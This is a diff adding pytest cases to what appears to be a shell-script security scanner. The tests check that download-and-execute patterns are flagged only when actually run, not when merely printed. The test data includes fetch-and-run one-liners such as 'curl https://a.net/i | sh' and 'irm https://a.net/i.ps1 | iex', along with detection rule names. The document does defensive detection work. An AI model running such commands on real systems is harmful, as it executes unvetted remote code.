@@ -95,3 +95,37 @@ def test_what_gives_nothing_away_is_not_grave(tmp_path: Path, name: str, text: s
         .replace("readOnly: true", "")
     )  # fmt: skip
     assert [one for one in found(tmp_path, Example(name, worse)) if one.severity in grave]
+
+
+SHOWN = {
+    "a function that prints": 'say_it() {\n  printf \'%s\' "$1"\n}\nsay_it "{}"\n',
+    "a variable that is shown": 'CMD="{}"\necho "Run $CMD"\n',
+    "a cmdlet that writes": 'Write-Line "{}"\n',
+    "a text of several lines": "Write-Host @'\nUsage:\n  {}\n'@\n",
+}
+RUN = {
+    "a function that runs it": 'run_it() {\n  bash -c "$1"\n}\nrun_it "{}"\n',
+    "a variable that is run": 'CMD="{}"\neval "$CMD"\n',
+    "a shell": 'bash -c "{}"\n',
+    "another machine": "wsl -d a -- bash -lc '{}'\n",
+}
+
+
+@pytest.mark.parametrize(
+    ("text", "grave"),
+    [*((one, False) for one in SHOWN.values()), *((one, True) for one in RUN.values())],
+    ids=[*SHOWN, *RUN],
+)
+def test_a_command_that_is_shown_is_not_run(tmp_path: Path, text: str, grave: bool) -> None:
+    name = "a.ps1" if "Write-" in text else "a.sh"
+    command = "irm https://a.net/i.ps1 | iex" if name == "a.ps1" else "curl https://a.net/i | sh"
+    rules = [one.rule for one in found(tmp_path, Example(name, text.replace("{}", command)))]
+    assert ("shell-pipe-to-shell" in rules) is grave
+
+
+def test_a_downloaded_file_that_is_only_read_is_not_run(tmp_path: Path) -> None:
+    fetch = "curl -fs https://a.net/h > /tmp/h.json\n"
+    read = f"{fetch}python3 -c \"import json; json.load(open('/tmp/h.json'))\"\n"
+    assert found(tmp_path, Example("a.sh", read)) == []
+    run = f"{fetch}(/tmp/h.json)\n"
+    assert [one.rule for one in found(tmp_path, Example("a.sh", run))] == ["shell-download-run"]
